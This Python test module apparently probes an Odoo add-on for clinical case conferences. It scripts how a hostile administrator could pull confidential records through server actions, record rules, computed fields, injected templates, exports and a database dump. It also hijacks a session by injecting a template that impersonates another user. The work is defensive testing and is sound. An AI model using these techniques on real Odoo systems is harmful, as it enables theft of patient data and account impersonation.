"""What a system administrator of Odoo can do without changing a program, each by screens or RPC that are theirs.

Each gives the names of the texts that it brought out.
"""

import urllib.parse

from tests.hostile_admin.world import HELD_IN, LOOT, found_in, stealing
from tests.rpc import RpcError


def server_action_in_the_clinicians_request(world):
    """Code behind a menu that the clinician presses."""
    action = _server_action(world, stealing("env"), group_ids=[(4, _group(world, "group_user"))])
    _quietly(world.clinician.post, "/web/action/run", {"action_id": action, "context": {}})
    return world.take()


def server_action_as_superuser(world):
    """The same code, as superuser, in the administrator's own request."""
    code = stealing("env").replace("env['casecon", "env(su=True)['casecon")
    action = _server_action(world, code)
    _quietly(world.admin.call, "ir.actions.server", "run", [action])
    return world.take()


def expression_of_a_record_rule(world):
    """An expression that Odoo evaluates whenever a clinician reads a country."""
    stolen = stealing("user.env")
    rule = {
        "name": "Countries",
        "model_id": world.model("res.country"),
        "domain_force": f"[(1, '=', 1)] if user.login == 'clinician' and {stolen} else [(1, '=', 1)]",
    }
    rule = world.made("ir.rule", rule)
    try:
        _quietly(world.clinician.call, "res.country", "search_read", [], ["name"], limit=1)
    finally:
        world.admin.call("ir.rule", "unlink", [rule])
    return world.take()


def custom_computed_field(world):
    """A field of the administrator's own, on what the clinician opens every day."""
    code = f"for record in self:\n    record['x_stolen'] = {stealing('self.env')} and 'x'"
    field = {
        "model_id": world.model("res.country"),
        "name": "x_stolen",
        "ttype": "char",
        "store": False,
        "compute": code,
        "field_description": "Stolen",
    }
    field = world.made("ir.model.fields", field)
    try:
        _quietly(world.clinician.call, "res.country", "search_read", [], ["x_stolen"], limit=1)
    finally:
        world.admin.call("ir.model.fields", "unlink", [field])
    return world.take()


def edited_portal_template(world):
    """One more expression in the page in which the employee answers the questions about consent."""
    with Template(world, "casecon_odoo.portal_page", f'<t t-set="stolen" t-value="{stealing("request.env")}"/>'):
        _quietly(_opened, world.employee, f"/my/conferences/{world.conference}/consent")
    return world.take()


def rpc_of_the_clinicians(world):
    """What a program reads with the clinician's own login, as with a key to the API."""
    call = world.clinician.call
    loot = [_quietly(call, model, "search_read", [], []) for model in HELD_IN]
    for name in ("note_ids", "consent_line_ids", "needs_ids", "agenda_item_ids"):
        model = call("casecon.conference", "fields_get", [name], ["relation"])[name]["relation"]
        below = {name: {"fields": {field: {} for field in call(model, "fields_get", [], [])}}}
        loot.append(_quietly(call, "casecon.conference", "web_read", [world.conference], below))
    return found_in(loot)


def export_through_a_parent(world):
    """The clinician's own export of conferences, with what hangs on them: the administrator lets everyone export."""
    everyone, export = (_group(world, name) for name in ("group_user", "group_allow_export"))
    world.admin.call("res.groups", "write", [everyone], {"implied_ids": [(4, export)]})
    fields = ["note_ids/body", "consent_line_ids/wording", "consent_line_ids/kind", "needs_ids/text_uuid"]
    fields.append("agenda_item_ids/name")
    loot = [
        _quietly(world.clinician.call, "casecon.conference", "export_data", [world.conference], [field])
        for field in fields
    ]
    return found_in(loot)


def report_of_the_administrators(world):
    """A template of the administrator's own, printed by the clinician."""
    arch = f'<t t-name="casecon_stolen"><div t-if="{stealing("docs.env")}">x</div></t>'
    view = {"name": "stolen", "type": "qweb", "arch": arch, "key": "casecon_odoo.stolen"}
    view = world.made("ir.ui.view", view)
    report = {
        "name": "Overview",
        "model": "res.country",
        "report_type": "qweb-html",
        "report_name": "casecon_odoo.stolen",
    }
    report = world.made("ir.actions.report", report)
    country = world.clinician.call("res.country", "search", [], limit=1)[0]
    try:
        _quietly(_opened, world.clinician, f"/report/html/casecon_odoo.stolen/{country}")
    finally:
        world.admin.call("ir.actions.report", "unlink", [report])
        world.admin.call("ir.ui.view", "unlink", [view])
    return world.take()


def dump(world):
    """A copy of the database, as a backup holds it."""
    return found_in(world.dump())


ATTACKS = (
    server_action_in_the_clinicians_request,
    server_action_as_superuser,
    expression_of_a_record_rule,
    custom_computed_field,
    rpc_of_the_clinicians,
    edited_portal_template,
    export_through_a_parent,
    report_of_the_administrators,
    dump,
)


def made_session(world):
    """A session of the clinician, made by an expression in a page that the administrator opens: who they then are."""
    become = (
        "request.params.get('become') and request.session.update({'uid': int(request.params['become']),"
        " 'login': 'clinician', 'session_token': request.env['res.users'].sudo().browse("
        "int(request.params['become']))._compute_session_token(request.session.sid)})"
    )
    rpc = type(world.admin)(world.server, "admin", "admin")
    with Template(world, "portal.portal_my_home", f'<t t-set="become" t-value="{become}"/>'):
        _opened(rpc, f"/my?{urllib.parse.urlencode({'become': world.clinician.uid})}")
    return rpc


class Template:
    """A view of Odoo's kind that adds a node to a page, for as long as the attack lasts."""

    def __init__(self, world, key, node):
        self.world, self.key, self.node = world, key, node

    def __enter__(self):
        module, name = self.key.split(".")
        wanted = [("module", "=", module), ("name", "=", name)]
        parent = self.world.admin.call("ir.model.data", "search_read", wanted, ["res_id"])[0]["res_id"]
        arch = f'<data><xpath expr="//t" position="inside">{self.node}</xpath></data>'
        self.view = self.world.made("ir.ui.view", {"name": LOOT, "type": "qweb", "inherit_id": parent, "arch": arch})

    def __exit__(self, *_error):
        self.world.admin.call("ir.ui.view", "unlink", [self.view])


def _group(world, name):
    return world.admin.call("ir.model.data", "check_object_reference", "base", name)[1]


def _server_action(world, code, **more):
    action = {"name": "Refresh", "model_id": world.model("res.partner"), "state": "code", "code": code}
    return world.made("ir.actions.server", {**action, **more})


def _opened(rpc, path):
    with rpc.open(rpc.url + path, timeout=120) as answer:
        return answer.read().decode()


def _quietly(act, *arguments, **named):
    """An attack that is refused has brought nothing out."""
    try:
        return act(*arguments, **named)
    except (RpcError, OSError) as error:
        return f"refused: {type(error).__name__}"
